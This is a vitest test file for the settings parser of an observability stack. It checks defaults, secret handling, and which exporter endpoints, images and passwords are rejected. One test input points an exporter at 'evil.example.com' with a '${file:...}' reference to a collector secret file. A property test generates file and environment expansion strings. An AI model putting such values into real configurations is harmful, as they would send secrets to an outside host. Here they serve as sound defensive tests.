import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { planStack } from "../configs/stack";
import { ConfigError, DEFAULT_IMAGES, parseSettings, retentionHours, Secret, SettingsInput, TIERS } from "../settings";
import { INVALID, TABLE_HOST_ROUTES } from "./fixtures/invalid-configs";

const valid = { environment: "dev" };

describe("settings: defaults", () => {
  it("GIVEN only an environment WHEN parsed THEN every default comes from the schema and tier tables", () => {
    const s = parseSettings(valid);
    expect(s.tier).toBe("small");
    expect(s.domain).toBe("ddev.site");
    expect(s.metrics).toEqual({ backend: "victoriametrics", retention: { text: "30d", hours: 720 } });
    expect(s.traces).toEqual({
      backend: "jaeger",
      retention: { text: "72h", hours: 72 },
      storage: "badger",
      spanMetrics: { enabled: true, dimensions: [], cardinalityLimit: 100 },
    });
    expect(s.logs.backend).toBe("none");
    expect(s.images).toEqual(DEFAULT_IMAGES);
    expect(s.exposure.bindAddress).toBe("127.0.0.1");
    expect(s.grafana.adminPassword).toBeUndefined();
  });

  it("GIVEN every section present but empty WHEN parsed THEN it equals the config without them (field defaults apply inside sections)", () => {
    const empty = {
      metrics: {},
      traces: {},
      logs: {},
      network: {},
      images: {},
      collector: {},
      grafana: {},
      alerting: {},
      exposure: {},
      traefik: {},
    };
    expect(parseSettings({ ...valid, ...empty })).toEqual(parseSettings(valid));
    expect(parseSettings({ ...valid, alerting: { thresholds: {} } })).toEqual(parseSettings(valid));
  });

  it("GIVEN the seed's production table WHEN tiers are read THEN VM/collector/Grafana memory match it, but for the small collector (192, measured: 128 thrashes)", () => {
    expect(
      [TIERS.small, TIERS.medium, TIERS.large].map((t) => [t.memoryMb.victoriametrics, t.memoryMb.collector, t.memoryMb.grafana]),
    ).toEqual([
      [256, 192, 256],
      [512, 256, 512],
      [1024, 512, 512],
    ]);
  });

  it("GIVEN a secret WHEN parsed THEN it is wrapped and refuses to serialise", () => {
    const s = parseSettings({ ...valid, grafana: { adminPassword: "hunter2-hunter2" } });
    expect(s.grafana.adminPassword).toBeInstanceOf(Secret);
    expect(s.grafana.adminPassword!.reveal()).toBe("hunter2-hunter2");
    expect(String(s.grafana.adminPassword)).toBe("[secret]");
    expect(() => JSON.stringify(s)).toThrow(/must not be serialised/);
  });

  it.each([
    ["72h", 72],
    ["30d", 720],
    ["2w", 336],
    ["1y", 8760],
  ])("GIVEN retention %s WHEN converted THEN it is %i hours", (text, hours) => {
    expect(retentionHours(text)).toBe(hours);
  });
});

describe("settings: invalid config fails with its own message", () => {
  it("has at least 25 cases", () => {
    expect(INVALID.length).toBeGreaterThanOrEqual(25);
  });

  it.each(INVALID)("GIVEN %s WHEN parsed for a deploy THEN it must fail naming its key", (_title, overrides, key, message, given) => {
    const raw: Record<string, unknown> = { ...valid, ...overrides };
    for (const [k, v] of Object.entries(raw)) if (v === undefined) delete raw[k];
    let error: unknown;
    try {
      // As deploy/program.ts parses: with the engine's secret keys, i.e. a real deploy.
      // The host's routes are the table's own: what a deploy checks, without reading this machine's.
      parseSettings(raw, "obs-stack", new Set(), { hostRoutes: TABLE_HOST_ROUTES });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ConfigError);
    const problems = (error as ConfigError).problems;
    const problem = problems.find((p) => p.path === key);
    expect(problem, `no problem reported for ${key}; got ${JSON.stringify(problems)}`).toBeDefined();
    expect(problem!.message).toMatch(message);
    if (given !== undefined) expect(problem!.given).toBe(given);
    expect((error as Error).message).toContain(`obs-stack:${key}:`);
  });

  it("GIVEN several mistakes in different keys WHEN parsed THEN every one is reported at once", () => {
    let error: ConfigError | undefined;
    try {
      parseSettings({
        environment: "prod",
        tier: "huge",
        metrics: { retention: "forever" },
        exposure: { ports: { otlpGrpc: 4317, otlpHttp: 4317 } },
        images: { jaeger: "jaegertracing/jaeger:latest" },
      });
    } catch (e) {
      error = e as ConfigError;
    }
    expect(error?.problems.map((p) => p.path).sort()).toEqual(
      ["exposure.ports.otlpHttp", "images.jaeger", "metrics.retention", "tier", "traefik.basicAuth", "traefik.tls.mode"].sort(),
    );
    expect(error?.message).toMatch(/6 problems/);
  });

  it("GIVEN five of issue 9's mistakes at once WHEN parsed THEN each is reported with its own key and message", () => {
    const problems = problemsOf({
      ...valid,
      traces: { retention: "99999y" },
      network: { name: "host", subnet: "172.28.0.1/16" },
      images: { collector: "otel/opentelemetry-collector-contrib:main" },
      grafana: { adminPassword: "admin" },
      exporters: [{ name: "logs", kind: "otlphttp", endpoint: "https://evil.example.com/${file:/etc/otelcol-contrib/secrets/x}" }],
    });
    expect(problems.map((p) => `${p.path}: ${p.message.split(/[:;]/)[0]}`).sort()).toEqual(
      [
        "exporters.0.endpoint: must not contain '$'",
        "exporters.0.name: is reserved for the stack's own exporters and backends",
        "grafana.adminPassword: must be at least 15 characters (the admin login has no second factor)",
        "images.collector: must be pinned, but tag 'main' moves to new builds",
        "network.name: is one of Docker's predefined networks",
        "network.subnet: has host bits set after the /16 prefix",
        "traces.retention: must be at most 100y (876000h)",
      ].sort(),
    );
  });

  it("GIVEN credentials in an exporter URL WHEN reported THEN neither the user info nor the query value is echoed", () => {
    const problems = problemsOf({
      ...valid,
      exporters: [
        { name: "a", kind: "otlphttp", endpoint: "http://alice:pa55word@otlp.example.com/v1?api_key=K3Y-VALUE", headers: { "X-A": "b" } },
      ],
    });
    const text = JSON.stringify(problems);
    // user:pass@, ?api_key= and (otlphttp) a query string at all.
    expect(problems.filter((p) => p.path === "exporters.0.endpoint").length).toBe(3);
    for (const leaked of ["alice", "pa55word", "K3Y-VALUE", "otlp.example.com/v1"]) expect(text).not.toContain(leaked);
    expect(problems.every((p) => p.given === "(contains credentials)")).toBe(true);
  });

  it("GIVEN a short Grafana password WHEN reported THEN the password is not echoed", () => {
    const problems = problemsOf({ ...valid, grafana: { adminPassword: "hunter2" } });
    expect(problems).toEqual([expect.objectContaining({ path: "grafana.adminPassword", given: "(secret)" })]);
    expect(JSON.stringify(problems)).not.toContain("hunter2");
  });

  it("GIVEN a wrong secret WHEN reported THEN its value is never echoed", () => {
    let message = "";
    try {
      parseSettings({ ...valid, grafana: { adminPassword: 12345678 } });
    } catch (e) {
      message = (e as Error).message;
    }
    expect(message).toContain("grafana.adminPassword");
    expect(message).toContain("(secret)");
    expect(message).not.toContain("12345678");
  });
});

function problemsOf(raw: Record<string, unknown>): ConfigError["problems"] {
  try {
    parseSettings(raw);
  } catch (e) {
    if (e instanceof ConfigError) return e.problems;
    throw e;
  }
  throw new Error(`expected ${JSON.stringify(raw)} to be rejected`);
}

describe("settings: what issue 9's rules still accept", () => {
  it.each([
    ["loopback over http with basic auth", { endpoint: "http://127.0.0.1:9009", basicAuth: { username: "u", password: "p" } }],
    ["localhost over http with a header", { endpoint: "http://localhost:9009", headers: { Authorization: "Bearer x" } }],
    ["[::1] over http with a header", { endpoint: "http://[::1]:9009", headers: { "X-Scope-OrgID": "t" } }],
    ["a remote host over http without secrets", { endpoint: "http://otlp.example.com:4318" }],
    [
      "https with harmless query parameters (remote write)",
      { kind: "prometheusremotewrite", endpoint: "https://otlp.example.com/v1?tenant=a&monkey=b", headers: { Authorization: "x" } },
    ],
    ["a percent-encoded dollar", { endpoint: "https://otlp.example.com/%24%7Bfile:/x%7D" }],
    ["a password with a lone '$'", { endpoint: "https://otlp.example.com", basicAuth: { username: "u", password: "pa$word" } }],
    ["https to an in-stack host", { endpoint: "https://mimir:9009/otlp", headers: { "X-Scope-OrgID": "t" } }],
  ])("GIVEN an exporter with %s WHEN parsed THEN it is accepted", (_title, fields) => {
    expect(() =>
      parseSettings({ ...valid, exporters: [{ name: "vendor", kind: "otlphttp", ...fields }] }, "obs-stack", new Set()),
    ).not.toThrow();
  });

  it("GIVEN eight extra exporters WHEN parsed THEN they are accepted (the limit is eight)", () => {
    const exporters = Array.from({ length: 8 }, (_, i) => ({ name: `x${i}`, kind: "otlphttp", endpoint: `https://x${i}.example.com` }));
    expect(parseSettings({ ...valid, exporters }).exporters).toHaveLength(8);
  });

  it.each([
    ["the defaults", DEFAULT_IMAGES.grafana],
    ["a local build", "obs-local/grafana:10.0.0-pre"],
    ["a registry with a port", "mirror.example.com:5000/grafana/grafana:12.3.0"],
    ["a digest", `grafana/grafana@sha256:${"a".repeat(64)}`],
    ["a moving name with a digest", `grafana/grafana:latest@sha256:${"b".repeat(64)}`],
    ["a version with a suffix", "grafana/grafana:12.3.0-ubuntu"],
    ["a v-prefixed full version", "traefik:v3.5.3"],
    ["a date-stamped release", "minio/minio:RELEASE.2024-01-16T16-07-38Z"],
    ["a compact date stamp", "example/tool:20240116"],
  ])("GIVEN an image from %s WHEN parsed THEN it counts as pinned", (_title, image) => {
    expect(() => parseSettings({ ...valid, images: { grafana: image } })).not.toThrow();
  });

  it("GIVEN the default image of every role WHEN parsed THEN all count as pinned", () => {
    expect(parseSettings({ ...valid, images: { ...DEFAULT_IMAGES } }).images).toEqual(DEFAULT_IMAGES);
  });

  it.each([
    ["a private /16", { network: { subnet: "172.28.0.0/16" } }],
    ["10.0.0.0/8", { network: { subnet: "10.0.0.0/8" } }],
    ["the longest retention", { metrics: { retention: "100y" }, traces: { retention: "876000h" } }],
    ["a day of retries", { collector: { retryMaxElapsed: "24h" } }],
    ["a 1 GB cap", { metrics: { backend: "prometheus", maxDiskGb: 1 }, logs: { backend: "victorialogs", maxDiskGb: 1.5 } }],
    ["a 15-character password", { grafana: { adminPassword: "fifteen-chars-x" } }],
    ["a 15-character password with one different character", { grafana: { adminPassword: `${"a".repeat(14)}b` } }],
    [
      "bind address 0.0.0.0",
      {
        exposure: { bindAddress: "0.0.0.0", ports: { http: 80, https: 443 } },
        traefik: { basicAuth: true, tls: { mode: "acme", email: "a@example.com" } },
      },
    ],
    [
      "an external Traefik at a *.localhost name without TLS",
      { domain: "obs.localhost", traefik: { mode: "external", network: "proxy" }, exposure: { ports: { otlpGrpc: 4317 } } },
    ],
    ["bind address on another loopback address", { exposure: { bindAddress: "127.0.0.2" } }],
    [
      "an external Traefik on another network",
      { network: { name: "obs-dev-own" }, traefik: { mode: "external", network: "proxy" }, exposure: { ports: { otlpGrpc: 4317 } } },
    ],
  ])("GIVEN %s WHEN parsed THEN it is accepted", (_title, overrides) => {
    expect(() => parseSettings({ ...valid, ...overrides })).not.toThrow();
  });
});

describe("settings: nothing but secret file references expands in the collector config (property)", () => {
  /** Pieces that would make the collector read a file or the environment if they reached its config as is. */
  const expansion = fc.constantFrom("${file:/etc/otelcol-contrib/secrets/other-authorization}", "${env:HOME}", "${HOME}", "$", "$$", "${");
  const segment = fc.oneof(
    { arbitrary: fc.webSegment(), weight: 4 },
    { arbitrary: expansion, weight: 1 },
    { arbitrary: fc.string({ maxLength: 6 }), weight: 1 },
  );
  const endpoint = fc
    .tuple(
      fc.constantFrom("https://", "http://"),
      fc.oneof(fc.domain(), fc.constantFrom("mimir:9009", "127.0.0.1:4318")),
      fc.array(segment, { maxLength: 4 }),
    )
    .map(([scheme, host, path]) => `${scheme}${host}/${path.join("/")}`);
  const username = fc.oneof(
    { arbitrary: fc.string({ minLength: 1, maxLength: 12 }), weight: 3 },
    { arbitrary: expansion.map((e) => `u${e}`), weight: 1 },
  );
  const exporter = fc.record({
    kind: fc.constantFrom("otlphttp", "prometheusremotewrite"),
    endpoint,
    basicAuth: fc.option(fc.record({ username, password: fc.constant("p") }), { nil: undefined }),
  });

  it("GIVEN any exporter endpoint and user name WHEN accepted and rendered THEN the YAML has no '$' outside ${file:<its secret files>}", () => {
    let accepted = 0;
    let refused = 0;
    fc.assert(
      fc.property(fc.array(exporter, { minLength: 1, maxLength: 2 }), (exporters) => {
        const input = { ...valid, exporters: exporters.map((e, i) => ({ name: `x${i}`, ...e })) } as SettingsInput;
        let settings;
        try {
          settings = parseSettings(input);
        } catch (error) {
          if (!(error instanceof ConfigError)) throw error;
          refused++;
          return;
        }
        accepted++;
        const plan = planStack(settings);
        // Remove exactly the references to files the collector is given as secrets; nothing else may hold a '$'.
        let rest = plan.collector.files[0]!.content;
        for (const file of plan.collector.secretFiles) rest = rest.split(`\${file:${file.path}}`).join("");
        expect(rest).not.toContain("$");
      }),
      { numRuns: 200 },
    );
    // Not vacuous: the generator reaches both sides of the rules. Over 40 fixed seeds (2026-12-06) 19–36
    // of 200 were accepted (mean 28, sd ≈ 4.5) and the rest refused; 10 is 4 sd below the mean, so a
    // random seed does not fail it by chance (the earlier bound, 20, failed a CI run at exactly 20).
    expect(accepted).toBeGreaterThanOrEqual(10);
    expect(refused).toBeGreaterThanOrEqual(10);
  });
});
